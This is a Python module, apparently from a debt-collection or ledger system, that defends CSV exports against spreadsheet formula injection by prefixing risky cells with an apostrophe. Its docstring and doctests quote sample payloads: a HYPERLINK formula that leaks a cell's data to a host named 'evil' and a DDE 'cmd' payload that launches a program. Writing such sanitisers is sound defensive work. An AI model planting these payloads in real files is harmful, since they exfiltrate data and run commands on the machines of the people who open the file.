"""CSV cells that a spreadsheet would run as a formula, neutralised: the one helper every CSV writer uses.

A ledger export, a bank file or a debtor's own input can carry a name such as
``=HYPERLINK("http://evil/?"&A1)`` or ``-2+3+cmd|'/C calc'!A0``. Written as-is into an agency
export, an import report or a listing, it runs when a credit controller opens the file in Excel
or LibreOffice. Following OWASP's "CSV injection" advice, a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe: spreadsheets show it as
text, and a person or a program reading the file still sees the whole value.

Two kinds of cells are left as they are, so figures stay figures:

* values that are not strings (``Decimal``, ``int``, dates: the writer formats them as numbers);
* strings that are a plain number (``-12.50``, ``+32470123456``, ``-1e3`` is *not* one): a
  spreadsheet reads them as a number, never as a formula, and a print house's or an agency's
  program parses them as numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any, TypeVar

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_cells", "safe_row"]

#: what a spreadsheet treats as the start of a formula (OWASP: = + - @ tab CR)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")

K = TypeVar("K")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell.

    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("@SUM(A1)"), safe_cell("-2+3+cmd|' /C calc'!A0")
    ('\\'=HYPERLINK("http://x")', "'@SUM(A1)", "'-2+3+cmd|' /C calc'!A0")
    >>> safe_cell("-12.50"), safe_cell("+32470123456"), safe_cell("Jan Peeters"), safe_cell(7)
    ('-12.50', '+32470123456', 'Jan Peeters', 7)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_cells(values: Iterable[Any]) -> list[Any]:
    """A row for :func:`csv.writer`, each cell through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


def safe_row(row: Mapping[K, Any]) -> dict[K, Any]:
    """A row for :class:`csv.DictWriter`, each cell through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}
